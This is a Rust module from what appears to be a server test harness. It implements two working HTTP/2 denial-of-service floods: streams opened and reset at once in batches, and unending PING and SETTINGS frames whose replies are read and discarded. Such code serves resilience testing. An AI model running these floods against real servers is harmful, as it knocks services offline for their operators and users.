//! HTTP/2 as bare frames: streams begun and reset at once, PING and SETTINGS without end.

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::Attacker;
use testkit::TestRequest;
use testkit::frames::{
    END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, block, frame,
};

const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Streams, or rounds of PING and SETTINGS, in one write.
const BATCH: u32 = 50;

/// A request, and that it is not wanted after all.
pub(super) async fn resets(attacker: &Attacker, stream: TlsStream<TcpStream>) {
    let head = block(&attacker.call(TestRequest::slots()), &[]);
    let mut next = 1;
    floods(attacker, stream, |bytes| {
        for _ in 0..BATCH {
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, next, &head));
            bytes.extend(frame(RST_STREAM, 0, next, &CANCEL));
            next += 2;
        }
        BATCH
    })
    .await;
}

/// Frames that want an answer each.
pub(super) async fn pings(attacker: &Attacker, stream: TlsStream<TcpStream>) {
    floods(attacker, stream, |bytes| {
        for _ in 0..BATCH {
            bytes.extend(frame(PING, 0, 0, b"12345678"));
            bytes.extend(frame(SETTINGS, 0, 0, b""));
        }
        2 * BATCH
    })
    .await;
}

/// Writes batches as fast as they are taken; what comes back is read and forgotten.
async fn floods(
    attacker: &Attacker,
    stream: TlsStream<TcpStream>,
    mut batch: impl FnMut(&mut Vec<u8>) -> u32,
) {
    let (reader, mut writer) = split(stream);
    let writing = async {
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, b""));
        loop {
            let count = batch(&mut bytes);
            if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                return;
            }
            attacker.sent(count as usize);
            bytes.clear();
        }
    };
    tokio::select! {
        () = writing => {}
        () = forgets(reader) => {}
    }
}

async fn forgets(mut reader: impl AsyncRead + Unpin) {
    let mut unread = vec![0; 16 * 1024];
    while reader.read(&mut unread).await.is_ok_and(|count| count > 0) {}
}
